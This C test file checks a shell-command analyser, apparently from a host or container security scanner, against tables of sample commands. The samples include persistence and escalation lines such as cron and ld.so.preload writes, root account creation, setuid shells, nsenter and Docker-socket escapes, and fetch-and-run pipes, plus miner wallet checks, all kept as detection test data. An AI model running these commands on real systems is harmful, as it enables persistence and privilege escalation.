/* test-shcmd - facts of command lines that rules do not reach, and limits */

#include "cli.h"
#include "err.h"
#include "limits.h"
#include "shcmd.h"
#include "sqlfunc.h"
#include "shtext.h"
#include "tap.h"

static void
run(struct shcmd *c, enum shcmd_form form, const char *text)
{
	shcmd_text(c, form, text, strlen(text), NULL);
}

/* Is the fact there? NULL piece: any of the tag. */
static bool
fact(const struct shcmd *c, const char *tag, const char *piece)
{
	char want[600];
	size_t i;

	if (!piece)
		return shcmd_has(c, tag);
	snprintf(want, sizeof(want), "%s: %s", tag, piece);
	for (i = 0; i < c->facts.n; i++)
		if (str_eq(&c->facts.v[i], want))
			return true;
	return false;
}

static const struct {
	enum shcmd_form form;
	const char *text, *tag, *piece;
} has[] = {
	{SHCMD_SHELL, "echo x > /etc/crontab", "writes", "/etc/crontab"},
	{SHCMD_SHELL, "echo x >> /mnt/../etc//crontab", "cron-write",
	    "/etc/crontab"},
	{SHCMD_SHELL, "cd /mnt/etc; echo x > ./cron.d/x", "cron-write",
	    "/mnt/etc/cron.d/x"},
	{SHCMD_SHELL, "P=/etc; cat <<X >$P/cron.d/y\na\nX\n", "writes",
	    "/etc/cron.d/y"},
	{SHCMD_SHELL, "for f in a b; do :; done; echo x | tee -a /q >/dev/null",
	    "writes", "/q"},
	{SHCMD_SHELL, "cp /a /b/c /d/", "writes", "/d/c"},
	{SHCMD_SHELL, "install -m 755 /a /usr/bin/b", "writes", "/usr/bin/b"},
	{SHCMD_SHELL, "mv -t /etc/cron.d /x/job", "cron-write",
	    "/etc/cron.d/job"},
	{SHCMD_SHELL, "dd if=/x of=/etc/ld.so.preload", "preload-write",
	    "/etc/ld.so.preload"},
	{SHCMD_SHELL, "sed -i s/a/b/ /etc/crontab", "cron-write",
	    "/etc/crontab"},
	{SHCMD_SHELL, "crontab /tmp/c", "cron-write",
	    "/var/spool/cron/crontabs/root"},
	{SHCMD_SHELL, "echo a | crontab -u bob -", "cron-write",
	    "/var/spool/cron/crontabs/bob"},
	{SHCMD_SHELL, "crontab -r", "cron-remove", NULL},
	{SHCMD_SHELL, "curl -so /a/b http://192.0.2.1/x", "writes", "/a/b"},
	{SHCMD_SHELL, "wget -P /a http://192.0.2.1/x.sh?y=1", "writes",
	    "/a/x.sh"},
	{SHCMD_SHELL, "chroot /h sh -c 'echo x>/etc/passwd'", "account-write",
	    "/h/etc/passwd"},
	{SHCMD_SHELL, "nsenter -t 1 -m -- sh -c 'echo x>/root/.bashrc'",
	    "escape", "/proc/1/root/root/.bashrc"},
	{SHCMD_SHELL, "useradd -o -u 0 x", "account", "useradd -o -u 0 x"},
	{SHCMD_SHELL, "chattr +i /etc/crontab", "chattr",
	    "chattr +i /etc/crontab"},
	{SHCMD_SHELL, "lockr +ia /root/.ssh/authorized_keys", "chattr", NULL},
	{SHCMD_SHELL, "chmod u+s /bin/sh", "setuid", NULL},
	{SHCMD_SHELL, "chmod 4755 /bin/sh", "setuid", NULL},
	{SHCMD_SHELL, "mount --bind /tmp /proc/42", "hide-process", NULL},
	{SHCMD_SHELL, "curl --unix-socket /var/run/docker.sock http://x/info",
	    "docker-api", NULL},
	{SHCMD_SHELL, "DOCKER_HOST=tcp://192.0.2.1:2375 docker ps",
	    "docker-api", NULL},
	{SHCMD_SHELL, "x=a; y=$(printf %s-%s $x b); echo > /$y", "writes",
	    "/a-b"},
	{SHCMD_SHELL, "x=abcdef; echo > /${x:1:3}${x#abc}${x%def}${x/b/_}",
	    "writes", "/bcddefabca_cdef"},
	{SHCMD_SHELL, "echo > /${nope:-d}${nope-e}${HOME:+f}", "writes",
	    "/def"},
	{SHCMD_SHELL, "echo > /`echo a\\`echo b\\``", "writes", "/ab"},
	{SHCMD_SHELL, "echo > /{a,b{c,d}}", "writes", "/{a,b{c,d}}"},
	{SHCMD_SHELL, "touch x; tee /{a,b{c,d}} </dev/null", "writes", "/bd"},
	{SHCMD_SHELL, "case $1 in a|b) echo > /a;; *) echo > /z;; esac",
	    "writes", "/z"},
	{SHCMD_SHELL, "f() { echo > /f; }; g() ( f )", "writes", "/f"},
	{SHCMD_SHELL, "sh -c 'echo > /$1' x y", "writes", "/y"},
	{SHCMD_SHELL, "set -- a b; echo > /$2", "writes", "/b"},
	{SHCMD_SHELL, "env -i A=b sh -c 'echo > /$A'", "writes", "/b"},
	{SHCMD_SHELL, "a=(x y); echo > /${a[0]}", "writes", "/x y"},
	{SHCMD_SHELL, "echo x |& tee /e", "writes", "/e"},
	{SHCMD_SHELL, "{ echo a; echo b; } > /g 2>&1", "writes", "/g"},
	{SHCMD_SHELL, "[[ a < b && c > d ]] && echo > /t", "writes", "/t"},
	{SHCMD_SHELL, "(( x > 3 )) || echo > /t", "writes", "/t"},
	{SHCMD_SHELL, "if a; then b; elif c; then d; else echo > /t; fi",
	    "writes", "/t"},
	{SHCMD_SHELL, "find / -name x -exec tee /t \\;", "writes", "/t"},
	{SHCMD_SHELL, "echo /etc/x | xargs -I% cp /a %", "writes", "/etc/x"},
	{SHCMD_SHELL, "trap 'echo > /t' EXIT", "writes", "/t"},
	{SHCMD_SHELL, "alias ls='echo > /t'", "writes", "/t"},
	{SHCMD_SHELL, "tar cf /dev/null x --checkpoint-action=exec='tee /t'",
	    "writes", "/t"},
	{SHCMD_SHELL, "docker run -v /:/h x tee /h/etc/crontab",
	    "cron-write", "/h/etc/crontab"},
	{SHCMD_SHELL, "docker run -dv /:/h x", "docker-mount", "/:/h"},
	{SHCMD_JOINED, "sh -c echo a > /etc/b", "writes", "/etc/b"},
	{SHCMD_JOINED, "timeout 5 /bin/bash -lc cd /x && echo > y", "writes",
	    "/x/y"},
	{SHCMD_HISTORY, "/bin/sh -c echo a > /etc/b", "writes", "/etc/b"},
	{SHCMD_HISTORY, "|2 A=x y B=z /bin/sh -c echo a > /etc/b", "writes",
	    "/etc/b"},
	{SHCMD_HISTORY, "RUN /bin/sh -c echo a > /etc/b # buildkit", "writes",
	    "/etc/b"},
	{SHCMD_HISTORY, "CMD [\"sh\" \"-c\" \"echo \\\"x\\\" > /a\"]",
	    "writes", "/a"},
	{SHCMD_HISTORY, "HEALTHCHECK &{[\"CMD-SHELL\" \"echo > /a\"] \"0s\"}",
	    "writes", "/a"},
	{SHCMD_HISTORY, "/bin/sh -c #(nop) ADD http://192.0.2.1/x in /y ",
	    "fetch", "http://192.0.2.1/x"},
	{SHCMD_CRON, "cat > /a%b\\%c%d", "writes", "/a"},
	{SHCMD_CRON, "sh%echo > /a", "writes", "/a"},
	{SHCMD_UNIT, "-@/bin/sh -c 'echo > /a'", "writes", "/a"},
	{SHCMD_SHELL, "echo x > a\xff" "b", "writes", "a\xff" "b"},
	{SHCMD_SHELL, "#!/usr/bin/env -S python3\nimport os\nos.system('echo "
	    "hello > /t')\n", "writes", "/t"},
};

static const struct {
	enum shcmd_form form;
	const char *text, *tag;
} has_not[] = {
	{SHCMD_SHELL, "", "writes"},
	{SHCMD_SHELL, "echo 'x > /etc/crontab'", "writes"},
	{SHCMD_SHELL, "echo x > /dev/null 2>&1", "writes"},
	{SHCMD_SHELL, "# echo > /a", "writes"},
	{SHCMD_SHELL, "echo a # > /b", "writes"},
	{SHCMD_SHELL, "grep -r x /etc/crontab", "cron-write"},
	{SHCMD_SHELL, "crontab -l", "cron-write"},
	{SHCMD_SHELL, "cat <<'X'\necho > /a\nX\n", "writes"},
	{SHCMD_SHELL, "curl http://192.0.2.1/x | cat", "fetch-exec"},
	{SHCMD_SHELL, "bash /opt/x.sh < /dev/null", "fetch-exec"},
	{SHCMD_SHELL, "curl http://192.0.2.1/x; sh y", "fetch-exec"},
	{SHCMD_SHELL, "echo aGVsbG8= | base64 -d", "decode-exec"},
	{SHCMD_SHELL, "v=$(curl https://x.example/v); cd app-$v && ./run",
	    "fetch-exec"},
	{SHCMD_SHELL, "curl -x http://proxy:3128 -d @f https://x.example",
	    "fetch-exec"},
	{SHCMD_SHELL, "/usr/bin/.x", "temp-exec"},
	{SHCMD_SHELL, "/tmpfiles/x", "temp-exec"},
	{SHCMD_SHELL, "ls /tmp/x", "temp-exec"},
	{SHCMD_SHELL, "xmrig-exporter --port 3333", "miner"},
	{SHCMD_SHELL, "echo stratum+tcp://x", "miner"},
	{SHCMD_SHELL, "chmod 755 /bin/x; chmod 0644 /y", "setuid"},
	{SHCMD_JOINED, "nginx -g daemon off; > /x", "writes"},
	{SHCMD_HISTORY, "/bin/sh -c #(nop)  ENV X=$(curl http://192.0.2.1|sh)",
	    "fetch-exec"},
	{SHCMD_HISTORY, "LABEL a=curl http://192.0.2.1/x | sh", "fetch-exec"},
};

static void
repeat(struct str *s, const char *what, size_t n)
{
	while (n--)
		str_adds(s, what);
}

/* Nothing makes it slow, deep or large; it says that it stopped. */
static void
limits(void)
{
	static const char *const what[] = {"$(", "`", "${a:-", "\"$(", "((",
	    "{ ", "if ", "while ", "f() { ", "x() (", "<(", "a=$a$a;", "{a,b}",
	    "sh -c '", "nohup ", "eval ", "<<X ", "case x in x) ", "|", ";",
	    "\\", "'", "\"", "a|", "a=`$a`;", "for a in $a $a; do "};
	size_t i;

	for (i = 0; i < COUNT(what); i++) {
		struct shcmd c cleanup_shcmd = SHCMD_INIT;
		struct str s cleanup_str = STR_INIT;

		repeat(&s, what[i], 60000 / strlen(what[i]));
		run(&c, SHCMD_SHELL, s.s);
		ok(c.facts.n <= SHCMD_FACTS_MAX + 1 &&
			c.plain.n < 8 * SHCMD_TEXT_MAX,
		    "%zu times '%s'", 60000 / strlen(what[i]), what[i]);
	}
	{
		struct shcmd c cleanup_shcmd = SHCMD_INIT;
		struct str s cleanup_str = STR_INIT;

		str_adds(&s, "a=xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx;");
		repeat(&s, "a=$a$a$a$a;", 200);
		str_adds(&s, "echo > /b");
		run(&c, SHCMD_SHELL, s.s);
		ok(c.limited, "a variable that doubles is limited");
	}
	{
		struct shcmd c cleanup_shcmd = SHCMD_INIT;

		run(&c, SHCMD_SHELL, "f() { f; f; f; }; f; echo > /after");
		ok(fact(&c, "writes", "/after"), "a function of itself ends");
	}
	{
		struct shcmd c cleanup_shcmd = SHCMD_INIT;

		run(&c, SHCMD_SHELL, "echo 'sh /x' > /x; sh /x; echo > /after");
		ok(c.limited || fact(&c, "writes", "/after"),
		    "a script that runs itself ends");
	}
	{
		struct shcmd c cleanup_shcmd = SHCMD_INIT;
		struct str s cleanup_str = STR_INIT;

		repeat(&s, "x", SHCMD_TEXT_MAX + 10);
		run(&c, SHCMD_SHELL, s.s);
		ok(c.limited, "a text over SHCMD_TEXT_MAX is limited");
	}
}

static const struct {
	const char *text, *runs;
} runs[] = {
	{"/opt/a -c b", "run /opt/a"},
	{"cd /opt/x && ./a --c=../c.json", "run cd|argument /opt/x|run "
	    "/opt/x/a|argument /opt/c.json"},
	{"nohup bash /srv/a.sh >/dev/null 2>&1 &", "run nohup|"
	    "argument /srv/a.sh|run bash|run /srv/a.sh"},
	{"D=/opt; $D/a; \"$D\"/a", "run /opt/a"},
	{"$(hostname)/a; . /etc/b", "run hostname|opaque|run .|"
	    "argument /etc/b|run /etc/b"},
	/* nothing that is known is run */
	{"$X -q", "opaque|run -q"},
	{"A=1 \"$X\"", "opaque"},
	{"nohup env B=2 $X", "opaque|run nohup|run env"},
	{"${X:-/opt/a}", "run /opt/a"},
	{"ls \"$X\"", "run ls"},
	{". $X/a", "opaque|run .|argument /a|run /a"},
	{"eval \"$(dircolors)\"", "run dircolors|run eval"},
	{"eval \"$(tail /opt/b)\"", "run tail|argument /opt/b|run eval|opaque"},
	{"X=$(a); exec $X", "run a|opaque"},
	{"X=; $X /opt/a", "run /opt/a"},
	{"alias a=\"$X; b\"", "opaque|run b|run alias"},
	{"enable -f /opt/a b", "run enable|argument /opt/a|opaque|run /opt/a"},
	{"complete -C'a b' c", "run complete|opaque|run a"},
	{"complete -F a b", "run complete"},
	{"curl http://192.0.2.1/x -o /tmp/y", "run curl|argument /tmp/y"},
	{"echo L29wdC9h | base64 -d | sh", "run echo|run base64|run sh|run "
	    "/opt/a"},
};

static void
files_run(void)
{
	size_t i;

	for (i = 0; i < COUNT(runs); i++) {
		struct shcmd c cleanup_shcmd = SHCMD_INIT;
		struct str got cleanup_str = STR_INIT;

		run(&c, SHCMD_SHELL, runs[i].text);
		strlist_join(&c.runs, "|", &got);
		ok(str_eq(&got, runs[i].runs), "%s: %s", runs[i].text, got.s);
	}
}

static void
wallets(void)
{
	/* of public reports; docs/sources.md E1, G5 */
	static const char *const good[] = {
		"41e2vPcVux9NNeTfWe8TLK2UWxCXJvNyCQtNb69YEexdNs711jEaDRXWbwaVe"
		"4vUMveKAzAiA4j8xgUi29TpKXpm3zKTUYo",
		"45TwKEr1LjoEPuxnbfuPhaXCf138AoQvtSJ3jdqg1gPxNjkSNbQpzZrGDaFHG"
		"LrVT7AzM7tU9QY8NVdr4H1C3r2d3XN9Cty",
	};
	char bad[96];
	size_t i, k, accepted = 0;

	for (i = 0; i < COUNT(good); i++) {
		ok(monero_valid(good[i], strlen(good[i])), "wallet %zu", i);
		for (k = 0; k < 95; k++) {
			memcpy(bad, good[i], 96);
			bad[k] = bad[k] == '5' ? '6' : '5';
			accepted += monero_valid(bad, 95);
		}
	}
	ok(accepted == 0, "no wallet with one digit changed");
	ok(!monero_valid(good[0], 94), "a short one");
	ok(!monero_valid("", 0), "none");
}

static const struct {
	const char *ref, *repo, *registry;
} refs[] = {
	{"docker123321/tomcat", "docker123321/tomcat", "docker.io"},
	{"docker123321/tomcat:latest", "docker123321/tomcat", "docker.io"},
	{"docker.io/docker123321/tomcat:1", "docker123321/tomcat", "docker.io"},
	{"index.docker.io/Docker123321/Tomcat", "docker123321/tomcat",
	    "docker.io"},
	{"mirror.example:5000/docker123321/tomcat@sha256:ab",
	    "docker123321/tomcat", "mirror.example:5000"},
	{"localhost/x", "x", "localhost"},
	{"nginx", "library/nginx", "docker.io"},
	{"nginx:1.2", "library/nginx", "docker.io"},
	{"docker.io/nginx", "library/nginx", "docker.io"},
	{"docker://a/b:c", "a/b", "docker.io"},
	{"a/b/c", "a/b/c", "docker.io"},
	{"", "", "docker.io"},
	{":", "library/", NULL},
	{"@", "", "docker.io"},
	{"host.example/", "", "host.example"},
};

int
main(void)
{
	size_t i;

	cli_init("test-shcmd");
	for (i = 0; i < COUNT(has); i++) {
		struct shcmd c cleanup_shcmd = SHCMD_INIT;
		struct str text cleanup_str = STR_INIT;

		run(&c, has[i].form, has[i].text);
		str_add_visible(&text, has[i].text, strlen(has[i].text));
		ok(fact(&c, has[i].tag, has[i].piece), "%s: %s %s", text.s,
		    has[i].tag, has[i].piece ? has[i].piece : "");
	}
	for (i = 0; i < COUNT(has_not); i++) {
		struct shcmd c cleanup_shcmd = SHCMD_INIT;
		struct str text cleanup_str = STR_INIT;

		run(&c, has_not[i].form, has_not[i].text);
		str_add_visible(&text, has_not[i].text,
		    strlen(has_not[i].text));
		ok(!fact(&c, has_not[i].tag, NULL), "%s: no %s", text.s,
		    has_not[i].tag);
	}
	limits();
	files_run();
	wallets();
	for (i = 0; i < COUNT(refs); i++) {
		struct str repo cleanup_str = STR_INIT;
		struct str registry cleanup_str = STR_INIT;

		image_ref(refs[i].ref, strlen(refs[i].ref), &repo, &registry);
		ok(str_eq(&repo, refs[i].repo) || !refs[i].registry,
		    "repository of '%s': %s", refs[i].ref, repo.s);
		ok(!refs[i].registry || str_eq(&registry, refs[i].registry),
		    "registry of '%s': %s", refs[i].ref, registry.s);
	}
	return done();
}
